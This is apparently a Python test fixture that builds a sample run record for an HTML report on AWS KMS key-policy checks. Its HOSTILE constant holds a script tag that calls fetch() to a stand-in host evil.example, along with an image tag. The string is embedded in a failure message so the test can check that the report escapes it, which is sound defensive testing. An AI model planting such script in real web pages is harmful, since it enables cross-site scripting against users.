"""A run record with one of everything the HTML report shows: every verdict, a failure with
its statements at fault and fix, a skip, a matrix mismatch, a simulated cell, phases; and text
that would be markup or a link if it were not escaped."""

from __future__ import annotations

from harness.evidence import PolicyKind, StatementCited
from harness.report import CheckResult, Probe, RunRecord

KEY_USE = StatementCited(
    "key policy of arn:aws:kms:us-east-1:1:key/k", PolicyKind.KEY, "KeyUse", "Allow"
)
HOSTILE = '<script>fetch("https://evil.example/x")</script><img src="http://evil.example/i.png">'


def html_record() -> RunRecord:
    return RunRecord(
        target="local",
        checks=[
            CheckResult("tests/integration/test_a.py::test_x[p1]", "passed", promise=1),
            CheckResult(
                "tests/integration/test_key_access.py::test_direct_key_use[canary-b kms:Decrypt]",
                "failed",
                f"canary-b: kms:Decrypt was allowed; {HOSTILE}",
                promise=2,
                at_fault=(KEY_USE,),
                fix="narrow Allow statement 'KeyUse' so that it does not grant this to canary-b",
                source=("tests/integration/test_key_access.py", 44),
            ),
            CheckResult(
                "tests/integration/test_training.py::test_execution_succeeded",
                "skipped",
                "target fake lacks a capability: runs SageMaker training jobs",
                promise=3,
            ),
        ],
        probes=[
            Probe("canary-b (admin-like)", "kms:Decrypt", "", expected=False, actual=True),
            Probe("canary-b (admin-like)", "kms:Encrypt", "", expected=False, actual=False),
            Probe("pipeline role", "kms:Decrypt", "", True, True, evidence="simulated"),
        ],
        phases={"collection": 0.4, "deploy": 1.5, "checks": 2.0, "teardown": 0.6},
        pipeline_stages={"Source": 0.2},
        exit_status=1,
    )
